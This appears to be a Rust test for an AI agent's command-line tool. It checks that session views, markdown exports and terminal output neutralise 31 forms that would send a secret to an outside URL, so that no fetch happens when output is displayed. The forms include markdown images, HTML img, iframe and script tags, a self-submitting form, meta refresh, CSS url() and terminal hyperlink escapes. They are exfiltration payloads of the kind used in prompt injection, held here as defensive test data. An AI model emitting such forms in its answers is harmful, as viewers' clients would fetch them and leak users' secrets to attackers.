//! What an answer names is fetched by nobody, and is no link where it is shown: each form in which a viewer would fetch or open it.

use futures_util::FutureExt as _;
use harness::words::{done, rest};
use tokio::net::TcpListener;

use super::{Asking, Says, Scene, json, leave_in_workspace, order, within};

/// Thirty-one forms that carry `s3cret` to `URL`; `//HOST` is the same without its scheme.
const FORMS: [&str; 31] = [
    "![logo](URL?q=s3cret)",
    "![logo](<URL?q=s3cret>)",
    "![logo](URL?q=s3cret \"title\")",
    "![logo][1]\n\n[1]: URL?q=s3cret",
    "![1]\n\n[1]: <URL?q=s3cret>",
    "[![logo](URL/a?q=s3cret)](URL/b)",
    "[click](URL?q=s3cret)",
    "[click][2]\n\n[2]: URL?q=s3cret 'title'",
    "<URL?q=s3cret>",
    "URL?q=s3cret",
    "see URL/s3cret.",
    "see www.HOST/s3cret.",
    "<img src=\"URL?q=s3cret\">",
    "<img src='//HOST/?q=s3cret'>",
    "<IMG SRC=URL?q=s3cret>",
    "<img srcset=\"URL?q=s3cret 2x\">",
    "<picture><source srcset=\"URL?q=s3cret\"></picture>",
    "<iframe src=\"URL?q=s3cret\"></iframe>",
    "<script src=\"URL?q=s3cret\"></script>",
    "<link rel=stylesheet href=\"URL?q=s3cret\">",
    "<style>body { background: url(URL?q=s3cret) }</style>",
    "<div style=\"background:url('URL?q=s3cret')\">x</div>",
    "<meta http-equiv=\"refresh\" content=\"0;url=URL?q=s3cret\">",
    "<video src=\"URL?q=s3cret\" autoplay></video>",
    "<audio src=\"URL?q=s3cret\" autoplay></audio>",
    "<object data=\"URL?q=s3cret\"></object>",
    "<embed src=\"URL?q=s3cret\">",
    "<svg><image href=\"URL?q=s3cret\"/></svg>",
    "<form action=\"URL\"><input name=q value=s3cret></form><script>document.forms[0].submit()</script>",
    "<a href=\"URL?q=s3cret\" ping=\"URL/ping?q=s3cret\">x</a>",
    "\u{1b}]8;;URL?q=s3cret\u{1b}\\click\u{1b}]8;;\u{1b}\\",
];

#[tokio::test(flavor = "multi_thread")]
async fn w2_what_an_answer_names_is_fetched_by_nobody_and_is_no_link() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let scene = Scene::start().await;
    for form in FORMS {
        let text = form
            .replace("URL", &format!("http://{host}"))
            .replace("HOST", &host);
        leave_in_workspace(&scene.pawd, "page.txt", &text);
        scene.model.will(Says::Obeys);
        scene.model.will(Says::says(&[&text]));
        let read = order("files__read", &json!({"path": "page.txt"}));
        let asked = Asking::new(read.clone()).ask(&scene.client);
        let mut chat = within("beginning a chat", asked).await.unwrap();
        let events = rest(&mut chat).await;
        let answer = done(&events);
        assert_eq!(answer.text, text, "a program has what was said");
        let session = answer.session.as_str();
        for shown in [
            &["session", "show", session][..],
            &["session", "export", session, "--format", "md"],
        ] {
            let ran = scene.pawd.pawctl(shown).await;
            let said = String::from_utf8(ran.stdout).unwrap();
            assert!(ran.status.success() && said.contains("s3cret"), "{said}");
            for begins in ["://", "www."] {
                assert!(!said.contains(begins), "{shown:?}: {said}");
            }
            let of_tool = said.lines().filter(|line| line.contains(&host));
            if shown.len() > 3 {
                // Four blanks make code of it, in which nothing is a picture, a link or an element.
                let code = |line: &str| line.starts_with(">     ");
                assert!(of_tool.clone().all(code), "{said}");
            }
            assert!(
                of_tool.count() >= 2,
                "what was read, and what was said of it: {said}"
            );
        }
        for shown in [
            &["session", "export", session][..],
            &["session", "list"],
            &["action", "show", &answer.action_id],
        ] {
            assert!(scene.pawd.pawctl(shown).await.status.success());
        }
        scene.model.will(Says::says(&[&text]));
        let ran = scene.pawd.pawctl(&["chat", "say it"]).await;
        let said = String::from_utf8(ran.stdout).unwrap();
        assert!(
            said.contains("s3cret") && !said.contains('\u{1b}'),
            "{said:?}"
        );
        assert_eq!(said.contains("://"), text.contains("://"), "{said}");
    }
    // Who reads it at a terminal is shown none, wherever the model cut it.
    let all = FORMS.join("\n").replace("URL", "http://host");
    let ends = all
        .char_indices()
        .map(|(at, one)| (at, at + one.len_utf8()));
    let pieces: Vec<&str> = ends.map(|(from, to)| &all[from..to]).collect();
    scene.model.will(Says::says(&pieces));
    let chat = ["--no-color", "chat", "say it"];
    let mut window = scene.pawd.pawctl_in_a_window((24, 200), &chat);
    let said = window.until("answered by");
    assert!(said.contains("s3cret"), "{said}");
    for begins in ["://", "www.", "\u{1b}"] {
        assert!(!said.contains(begins), "{said}");
    }
    let came = listener.accept().now_or_never();
    assert!(came.is_none(), "somebody asked for it: {came:?}");
}
